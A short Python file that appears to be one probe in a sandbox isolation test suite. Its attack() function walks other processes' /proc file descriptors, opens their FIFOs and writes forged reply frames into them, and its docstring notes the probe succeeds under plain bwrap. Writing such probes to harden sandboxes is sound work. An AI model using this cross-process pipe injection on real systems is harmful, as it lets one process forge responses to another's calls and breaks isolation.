"""Opens every descriptor of every process it can see, to answer for other calls.

stopped_by: nobody else can be seen; the init's descriptors cannot be opened
plain bwrap: succeeds
"""

import os
import stat

from tools import frame, others


def attack():
    found = 0
    for pid in others():
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for name in names:
            try:
                if stat.S_ISFIFO(os.stat(f"/proc/{pid}/fd/{name}").st_mode):
                    descriptor = os.open(f"/proc/{pid}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK)
                    os.write(descriptor, frame(1.0))
                    os.close(descriptor)
                found += 1
            except OSError:
                continue
    return float(found > 0)
